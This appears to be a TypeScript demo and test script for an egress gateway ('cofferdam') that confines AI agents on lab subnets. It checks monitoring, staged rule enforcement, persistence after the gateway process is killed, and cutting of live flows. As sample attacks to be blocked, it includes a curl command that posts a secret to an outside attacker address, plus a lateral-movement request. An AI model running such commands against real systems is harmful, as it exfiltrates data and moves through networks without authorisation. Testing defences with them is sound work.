/**
 * The second part: two subnets and a spoke behind a gateway that agents know nothing of. It watches first, is promoted rule by rule, goes on
 * when its process is killed, and cuts a live flow when the policy changes.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { joinSubnet, type Lab, type LabProcess, type Machine } from '@cofferdam/testkit/lab';
import { bold, dim, indent, right, wrong } from './stage.ts';

const root = fileURLToPath(new URL('../..', import.meta.url));
const cofferdam = join(root, 'cofferdam');

interface Deed {
  readonly title: string;
  readonly command: string;
  readonly work: boolean;
}

const deeds: readonly Deed[] = [
  { title: 'work: calls its tool', command: 'curl -sS -m 4 https://example.com/', work: true },
  { title: 'work: asks its database', command: 'curl -sS -m 4 telnet://10.11.2.9:5432 </dev/null', work: true },
  {
    title: 'attack: posts to an address of the attacker',
    command: 'curl -sS -m 4 -k -d secret https://45.83.64.10/collect',
    work: false,
  },
  {
    title: 'attack: moves sideways to the company’s wiki in the spoke',
    command: 'curl -sS -m 4 http://10.20.0.20/',
    work: false,
  },
];

interface Stage {
  readonly title: string;
  readonly why: string;
  readonly promote: (policy: string) => string;
  /** Which deeds get through, in their order. */
  readonly through: readonly boolean[];
}

const enforce = (policy: string, rule: string): string =>
  policy.replace(new RegExp(`(name: ${rule},[^\\n]*)mode: monitor, `), '$1');

const stages: readonly Stage[] = [
  {
    title: 'everything is monitored',
    why: 'the gateway denies nothing, and records what it would have denied',
    promote: (policy) => policy,
    through: [true, true, true, true],
  },
  {
    title: 'the rules about the inside are promoted',
    why: 'no way sideways but to the database; the internet is still only watched',
    promote: (policy) => enforce(enforce(policy, 'own-database'), 'nothing-sideways'),
    through: [true, true, true, false],
  },
  {
    title: 'the last rule and the containment are promoted',
    why: 'from now on only what a rule permits gets through',
    promote: (policy) => enforce(policy, 'tools').replaceAll('containment: monitor', 'containment: enforce'),
    through: [true, true, false, false],
  },
];

const sentence = (through: boolean): string => (through ? 'gets through' : 'denied');

/** A database that greets, and a connection that says a number every tenth of a second. */
const database = `import socket
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(('', 5432)); s.listen()
print('ready', flush=True)
while True:
  c, _ = s.accept(); c.send(b'welcome'); c.close()`;
const talker = `import socket, time
s = socket.create_connection(('echo.example', 5000), 5); s.settimeout(3)
try:
  for i in range(600):
    s.sendall(b'%d\\n' % i); print(s.recv(99).decode().strip(), flush=True); time.sleep(0.1)
except OSError as e: print('cut', flush=True)`;

const pause = (ms: number): Promise<void> => new Promise((done) => setTimeout(done, ms));

/** Returns how many steps went wrong. */
export const network = async (lab: Lab): Promise<number> => {
  const directory = mkdtempSync(join(tmpdir(), 'cofferdam-demo-'));
  const file = join(directory, 'network.yaml');
  let policy = readFileSync(join(root, 'examples/demo/network.yaml'), 'utf8');
  let failures = 0;
  const check = (holds: boolean, text: string): void => {
    if (!holds) failures += 1;
    console.log(`   ${holds ? right(text) : wrong(text)}`);
  };
  const start = async (): Promise<LabProcess> => {
    const gateway = lab.spawn('host', [cofferdam, 'gateway', '--policy', file, '--agents', 'eth1,eth2']);
    await gateway.waitFor(/gateway gateway (stands|goes on)/);
    return gateway;
  };
  const machines: Machine[] = [];
  console.log(bold('2. A network of agents that know nothing of the gateway: two subnets, and a spoke beside them.'));
  console.log(`${dim('   $ cofferdam gateway --policy examples/demo/network.yaml --agents eth1,eth2')}\n`);
  try {
    machines.push(
      await joinSubnet(lab, {
        name: 'workers',
        device: 'eth1',
        gateway: ['10.11.1.1/24', 'fd11:1::1/64'],
        agents: ['10.11.1.7/24', 'fd11:1::7/64'],
      }),
      await joinSubnet(lab, {
        name: 'databases',
        device: 'eth2',
        gateway: ['10.11.2.1/24', 'fd11:2::1/64'],
        agents: ['10.11.2.9/24', 'fd11:2::9/64'],
      }),
    );
    const [worker, other] = machines as [Machine, Machine];
    await other.spawn(['python3', '-c', database]).waitFor(/ready/);
    writeFileSync(file, policy);
    let gateway = await start();

    for (const [index, stage] of stages.entries()) {
      console.log(bold(`2.${index + 1} ${stage.title}`));
      console.log(`   ${dim(stage.why)}`);
      policy = stage.promote(policy);
      if (index > 0) {
        const said = gateway.stderr().length;
        writeFileSync(file, policy);
        while (!gateway.stderr().slice(said).includes('in force as revision')) await pause(50);
      }
      for (const [i, { title, command }] of deeds.entries()) {
        const { code } = await worker.exec(['sh', '-c', command], { env: lab.ca.environment });
        check((code === 0) === stage.through[i]!, `${title}: ${sentence(code === 0)}`);
      }
      const { stdout } = await lab.exec('host', [
        cofferdam,
        'flows',
        '--since',
        '20s',
        '--agent',
        'worker',
        '--verdict',
        index === 0 ? 'would-deny' : 'deny',
        '--format',
        'compact',
      ]);
      const lines = [
        ...new Set(
          stdout
            .trim()
            .split('\n')
            // Without the time, and the bytes that follow the rule.
            .map((line) => line.replace(/^\S+ +/, '').replace(/\].*$/, ']')),
        ),
      ];
      console.log(indent(lines.join('\n'), '     '));
      console.log('');
    }

    console.log(bold('2.4 the gateway’s process is killed, with a connection open'));
    console.log(
      `   ${dim('programs, tables and rules are the kernel’s: they go on, and the next start takes them over')}`,
    );
    const live = worker.spawn(['python3', '-c', talker]);
    await live.waitFor(/^5$/m);
    await gateway.kill('SIGKILL');
    await gateway.ended;
    const before = live.stdout().split('\n').length;
    await pause(1000);
    check(live.stdout().split('\n').length > before, 'the connection goes on');
    const attack = await worker.exec(['sh', '-c', deeds[2]!.command]);
    check(attack.code !== 0, 'the attack is still denied');
    gateway = await start();
    await pause(500);
    check(!live.stdout().includes('cut'), 'started again: the connection was not cut');
    console.log('');

    console.log(bold('2.5 the tool is taken out of the policy'));
    console.log(
      `   ${dim('live flows are judged again at once, and what is permitted no longer is cut at both ends')}`,
    );
    const changed = Date.now();
    writeFileSync(file, policy.replace('domains: [example.com, echo.example]', 'domains: [example.com]'));
    await live.waitFor(/cut/, 5000).catch(() => undefined);
    check(
      live.stdout().includes('cut'),
      `the connection was cut ${((Date.now() - changed) / 1000).toFixed(1)} s after the file was written`,
    );
    const { code } = await worker.exec(['sh', '-c', deeds[0]!.command], { env: lab.ca.environment });
    check(code === 0, 'the rest goes on');
    await gateway.kill('SIGTERM');
    await gateway.ended;
    const removed = await lab.exec('host', [cofferdam, 'gateway', 'remove']);
    check(removed.code === 0, 'removed: the interfaces are the host’s again');
    console.log('');
  } finally {
    await Promise.all(machines.map((machine) => machine.stop()));
    rmSync(directory, { recursive: true, force: true });
  }
  return failures;
};
